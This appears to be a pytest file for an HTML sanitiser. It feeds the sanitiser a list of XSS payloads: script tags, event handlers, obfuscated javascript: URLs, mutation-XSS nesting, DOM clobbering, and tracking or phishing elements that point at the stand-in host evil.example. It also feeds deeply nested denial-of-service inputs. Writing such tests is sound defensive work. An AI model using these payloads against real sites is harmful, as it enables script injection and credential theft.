"""A reply is shown as it was written, and nothing in it runs, is sent, or is fetched."""

from __future__ import annotations

import re
import time

import pytest

from fifthcall.cues.cleaning import MOST, cleaned

HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='http:javascript:alert(1)'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<style>@import 'https://evil.example/a.css'; body{background:url(https://evil.example/b)}</style>",
    "<p style='background:url(https://evil.example/c)'>x</p>",
    "<p style='background-color:red;background-image:u\\72l(https://evil.example/c)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<table background='https://evil.example/d'><tr><td background='https://evil.example/e'>x</td></tr></table>",
    "<img src='https://evil.example/open.gif' width=1 height=1>",
    "<img srcset='https://evil.example/open.gif 1x'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='cid:part1'>",
    "<video poster='https://evil.example/p' src='https://evil.example/v'></video>",
    "<audio src='https://evil.example/v'></audio>",
    "<picture><source srcset='https://evil.example/p'></picture>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<p title='</p><script>alert(1)</script>'>x</p>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<div onclick=alert(1) onmouseover=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a id=clobber name=location href='https://good.example'>x</a>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
]
#: Tags and attributes that may remain, and nothing else; text in `title` is text.
ATTRIBUTE = re.compile(r"""<[a-z][a-z0-9]*((?:\s+[a-z-]+="[^"]*")*)\s*/?>""")


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_runs_and_nothing_is_fetched(html: str) -> None:
    made = cleaned(f"<p>before</p>{html}<p>after</p>")
    assert "before" in made
    names = {
        name for attributes in ATTRIBUTE.findall(made) for name, _ in re.findall(r'([a-z-]+)="([^"]*)"', attributes)
    }
    assert names <= {"href", "rel", "target", "style", "title", "alt", "width", "height", "src"}
    tags = set(re.findall(r"<([a-z][a-z0-9]*)", re.sub(r'"[^"]*"', "", made)))
    assert tags <= {"p", "a", "img", "table", "tbody", "tr", "td", "div"}
    assert not re.search(r'(?:src|href)="(?!https://good\.example)', made)
    assert not re.search(r"(?i)evil\.example|url\(|position|expression", re.sub(r'title="[^"]*"', "", made))


def test_what_people_write_stays() -> None:
    made = cleaned(
        '<div dir="ltr">Hello <b>there</b>, see <a href="https://x.example/a?b=1&c=2">this</a>'
        '<ul><li style="color: red; position: fixed">one</li></ul><table><tr><td colspan="2">3 €</td></tr></table>'
    )
    assert '<div dir="ltr">Hello <b>there</b>' in made
    assert 'href="https://x.example/a?b=1&amp;c=2"' in made
    assert 'target="_blank"' in made and 'rel="noopener noreferrer nofollow"' in made
    assert '<li style="color:red">one</li>' in made
    assert '<td colspan="2">3 €</td>' in made


@pytest.mark.parametrize("kind", ["png", "jpeg", "gif"])
def test_pictures_that_came_with_it_stay(kind: str) -> None:
    assert f'src="data:image/{kind};base64,iVBORw0K"' in cleaned(f'<img src="data:image/{kind};base64,iVBORw0K">')


LONG = {
    "nested": "<div>" * 80_000,
    "fonts": "".join(f"<font color=c{number}>" for number in range(20_000)),
    "repeated": "<p>" + "".join(f"<b style=color:#{number}>" for number in range(58)) + "<p>x" * 30_000,
    "misnested": ("<b>" * 50 + "</i>" * 50) * 2_000,
    "cells": "<table>" + "<tr><td>" * 20_000,
    "escapes": "&" * 400_000,
    "attributes": "<p " + "".join(f"a{number} " for number in range(60_000)) + ">",
}


@pytest.mark.parametrize("name", LONG)
def test_long_and_deep_ones_are_bounded(name: str) -> None:
    began = time.process_time()
    assert len(cleaned(LONG[name])) <= MOST
    assert time.process_time() - began < 3


def test_what_is_nested_beyond_reason_comes_as_text() -> None:
    assert "see you &lt;then&gt;" in cleaned("<div>" * 500 + "see you &lt;then&gt;")
